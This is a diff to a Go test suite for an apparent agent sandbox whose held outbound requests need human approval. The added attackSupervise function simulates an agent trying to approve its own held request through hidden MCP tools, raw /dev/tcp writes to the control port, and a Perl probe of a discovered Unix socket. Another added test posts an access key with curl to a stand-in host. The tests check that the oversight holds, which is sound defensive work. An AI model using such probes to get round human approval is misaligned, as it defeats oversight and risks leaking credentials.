@@ -71,7 +71,7 @@ func TestHeldRequest(t *testing.T) {
 		t.Errorf("it waits as %+v", first)
 	}
 	show := h.must("supervise", "show", first.Proposal.ID[:6])
-	show.says(t, "send what looks like a credential", "held.test:443")
+	show.says(t, "send what looks like a credential", "held.test:443", `POST "/in"`, "values    1\n", "waits     for 4m")
 	for _, r := range []result{show, h.must("supervise"), h.must("logs", agent)} {
 		if strings.Contains(r.all(), value) {
 			t.Errorf("the value is shown: %s", r)
@@ -103,35 +103,67 @@ func TestHeldRequest(t *testing.T) {
 	h.must("supervise", "reject", h.waits(agent, 1)[0].Proposal.ID)
 	<-said
 
+	// Who hung up could not use an answer: it waits no more.
+	if out := b.fails("curl -sS --max-time 3 -d 'key=" + accessKey() + "' https://held.test/left"); !strings.Contains(out, "timed out") {
+		t.Errorf("%s", out)
+	}
+	h.waits(agent, 1)
+	h.waits(agent, 0)
+
 	t.Run("attacks", func(t *testing.T) { attackSupervise(t, h, bottle{t, h, agent}) })
 }
 
-// attackSupervise is the agent that would rather answer itself.
+// attackSupervise is the agent that would rather answer itself: by tools and
+// methods that are not there, by what the control socket takes, and with the id of
+// what waits, which no agent is told.
 func attackSupervise(t *testing.T, h *home, b bottle) {
+	go b.tool("egress-block", map[string]any{"host": "wished.test", "reason": "r"})
+	id := h.waits(b.agent, 1)[0].Proposal.ID
+	answer := map[string]any{"id": id, "verdict": "approved"}
 	rpc := func(method string, params any) string {
 		call, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
 		if err != nil {
 			t.Fatal(err)
 		}
-		return b.shell("curl -sS --max-time 60 -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d " + quote(string(call)) + " http://supervise:9100/mcp").all()
+		return b.shell("curl -sS --max-time 60 -w ' %{http_code}' -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d " + quote(string(call)) + " http://supervise:9100/mcp").stdout
 	}
 	for _, tool := range []string{"approve", "answer", "supervise"} {
-		if got := rpc("tools/call", map[string]any{"name": tool, "arguments": map[string]any{}}); !strings.Contains(got, "unknown tool") {
+		if got := rpc("tools/call", map[string]any{"name": tool, "arguments": answer}); !strings.Contains(got, `"message":"unknown tool \"`+tool+`\""`) || strings.Contains(got, `"result"`) {
 			t.Errorf("the tool %s: %s", tool, got)
 		}
 	}
-	for _, method := range []string{"supervise", "apply", "resources/list", "sampling/createMessage"} {
-		if got := rpc(method, map[string]any{}); !strings.Contains(got, "error") && !strings.Contains(got, "unsupported") && !strings.Contains(got, "[]") {
+	for _, method := range []string{"supervise", "supervise/answer", "apply", "get", "sampling/createMessage"} {
+		if got := rpc(method, answer); !strings.Contains(got, `"`+method+`" unsupported`) || !strings.HasSuffix(got, " 400") {
 			t.Errorf("the method %s: %s", method, got)
 		}
 	}
-	// What a sidecar's control socket would understand, where the tools listen.
-	for _, line := range []string{`{"command":"supervise"}`, "supervise", "get"} {
-		if got := b.shell("printf '%s\\n' " + quote(line) + " | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/9100; cat >&3; timeout 2 cat <&3'").all(); strings.Contains(got, `"ok":true`) {
+	// What a sidecar's control socket takes, where the tools listen, and at the door.
+	said, err := json.Marshal(answer)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range []string{`{"command":"supervise"}`, "bb1 supervise", "get"} {
+		got := b.shell("printf '%s\\n' " + quote(line) + " " + quote(string(said)) + " | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/9100; cat >&3; timeout 2 cat <&3'").stdout
+		if !strings.HasPrefix(got, "HTTP/1.1 400 Bad Request") {
 			t.Errorf("%s is answered: %s", line, got)
+		}
+	}
+	door := b.must("find / -xdev -name door.sock 2>/dev/null; find /bb -name door.sock 2>/dev/null | head -1")
+	door = strings.TrimSpace(strings.Split(door, "\n")[0])
+	knock := `use IO::Socket::UNIX; my $s = IO::Socket::UNIX->new(Peer => shift) or die "no door: $!"; $s->autoflush(1);
+print $s shift, "\n", shift, "\n"; local $SIG{ALRM} = sub { print "open\n"; exit }; alarm 3; my $got = join "", <$s>; print "hung up: [$got]\n"`
+	for word, want := range map[string]string{
+		"bb1 supervise": "hung up: []", "bb1 apply": "hung up: []", "bb1 get": "hung up: []", "bb1 mcp": "hung up: [HTTP/1.1 400 Bad Request",
+	} {
+		if got := b.must("perl -e " + quote(knock) + " " + door + " " + quote(word) + " " + quote(string(said))); !strings.HasPrefix(got, want) {
+			t.Errorf("%s at the door: %s", word, got)
 		}
 	}
 	if got := b.shell("find / -xdev -type s 2>/dev/null; find /bb /run -type s 2>/dev/null | sort -u").all(); strings.Contains(got, "control") {
 		t.Errorf("sockets in the bottle: %s", got)
 	}
+	if now := h.waits(b.agent, 1)[0]; now.Proposal.ID != id {
+		t.Errorf("%s does not wait any more, but %s", id, now.Proposal.ID)
+	}
+	h.must("supervise", "reject", id)
 }
